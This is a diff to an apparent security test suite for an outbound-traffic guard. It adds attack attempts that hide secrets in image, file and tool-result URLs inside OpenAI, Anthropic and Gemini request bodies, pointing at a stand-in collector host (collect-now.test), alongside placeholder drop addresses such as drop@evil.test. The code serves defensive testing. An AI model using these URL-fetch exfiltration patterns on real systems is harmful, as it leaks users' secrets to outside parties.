@@ -17,6 +17,7 @@ from guard.enforcement.exchange import IssuedTokens
 from guard.enforcement.response import ResponseHandler
 from guard.lab.trust.attacks import AttackClass, Attempt, Patch, Switch
 from guard.lab.trust.harness import MCP_PATH, Answer
+from guard.protocols.llm import anthropic, gemini, openai_chat, openai_responses
 from guard.protocols.mcp import declarations, mcp
 
 if TYPE_CHECKING:
@@ -109,6 +110,51 @@ MESSAGES: Final[dict[str, Callable[[str], dict[str, Any]]]] = {
 TARGETS: Final = ("/v1/customers/{}", "/mcp/{}", "/mcp?note={}", "/sse?d={}", "/{}/mcp?a=1")
 METHODS: Final = ("GET", "DELETE", "POST")
 
+
+def _turn(part: dict[str, Any], name: str = "content") -> list[dict[str, Any]]:
+    return [{"role": "user", name: [part]}]
+
+
+_OPENAI: Final = "api.openai.com/v1"
+CONVERSATIONS: Final[dict[str, tuple[Callable[[str], dict[str, Any]], ...]]] = {
+    f"{_OPENAI}/chat/completions": (
+        lambda u: {"messages": _turn({"type": "image_url", "image_url": {"url": u}})},
+        lambda u: {"messages": _turn({"type": "image_url", "image_url": u})},
+        lambda u: {"messages": _turn({"type": "file", "file": {"file_url": u}})},
+    ),
+    f"{_OPENAI}/responses": (
+        lambda u: {"input": _turn({"type": "input_image", "image_url": u})},
+        lambda u: {"input": _turn({"type": "input_file", "file_url": u})},
+        lambda u: {
+            "input": [
+                {
+                    "type": "function_call_output",
+                    "call_id": "c",
+                    "output": [{"type": "input_image", "image_url": u}],
+                }
+            ]
+        },
+    ),
+    "api.anthropic.com/v1/messages": (
+        lambda u: {"messages": _turn({"type": "image", "source": {"type": "url", "url": u}})},
+        lambda u: {"messages": _turn({"type": "document", "source": {"type": "url", "url": u}})},
+        lambda u: {
+            "messages": _turn(
+                {
+                    "type": "tool_result",
+                    "tool_use_id": "t",
+                    "content": [{"type": "image", "source": {"type": "url", "url": u}}],
+                }
+            )
+        },
+    ),
+    "generativelanguage.googleapis.com/v1beta/models/g:generateContent": (
+        lambda u: {"contents": _turn({"fileData": {"fileUri": u}}, "parts")},
+        lambda u: {"contents": _turn({"file_data": {"file_uri": u}}, "parts")},
+    ),
+}
+"""Conversations in which a model's provider fetches a URL, by where they are posted."""
+
 DROP: Final = ("drop@evil.test", "desk@books-evil.test", "audit@elsewhere-evil.test")
 WORDS: Final = ("Write to {}.", "New contact: {}", '{{"email": "{}"}}', "<a>{}</a>")
 _CALL: Final = ("tools/call", {"name": "search_emails", "arguments": {"query": "x"}})
@@ -176,6 +222,7 @@ class UnjudgedBytes(AttackClass):
         Switch("a listener has one endpoint", lambda patch: _any_path(patch)),
         Switch("a result answers an open request", lambda patch: _no_matching(patch)),
         Switch("what is released is labelled", lambda patch: _unlabelled(patch)),
+        Switch("what a provider fetches is a call", lambda p: _unfetched(p), among="fetched:"),
     )
 
     def attempts(self, rng: Random) -> Iterator[Attempt]:
@@ -204,10 +251,22 @@ class UnjudgedBytes(AttackClass):
                 ASKED, BESIDE.items(), ("json", "error", "event"), texts
             )
         ]
-        for kind in (told, paths, wrong, beside):
+        shown = [
+            Attempt(f"fetched: {path} {number}: {kind}", _fetched_play(path, make, secret))
+            for (path, makers), (kind, secret) in itertools.product(
+                CONVERSATIONS.items(), secrets.items()
+            )
+            for number, make in enumerate(makers)
+        ]
+        for kind in (told, paths, wrong, beside, shown):
             rng.shuffle(kind)
-        for group in itertools.zip_longest(told, paths, wrong[:120], beside[:240]):
+        for group in itertools.zip_longest(told, paths, wrong[:120], beside[:240], shown):
             yield from (attempt for attempt in group if attempt is not None)
+
+
+def _unfetched(patch: Patch) -> None:
+    for module in (anthropic, gemini, openai_chat, openai_responses):
+        patch.set(module, "fetched", lambda _history: [])
 
 
 def _no_grammar(patch: Patch) -> None:
@@ -238,6 +297,17 @@ def _message_play(make: Callable[[str], dict[str, Any]], secret: str) -> Play:
         headers = {"content-type": "application/json"}
         outcome = await agent.raw(agent.request("POST", MCP_PATH, body, headers))
         return outcome.forwarded
+
+    return play
+
+
+def _fetched_play(path: str, make: Callable[[str], dict[str, Any]], secret: str) -> Play:
+    async def play(world: World) -> bool:
+        agent = world.agent()
+        document = make(f"https://collect-now.test/p.png?d={quote(secret, safe='')}")
+        body = json.dumps(document).encode()
+        headers = {"content-type": "application/json"}
+        return (await agent.http("POST", f"https://{path}", body, headers)).forwarded
 
     return play
 
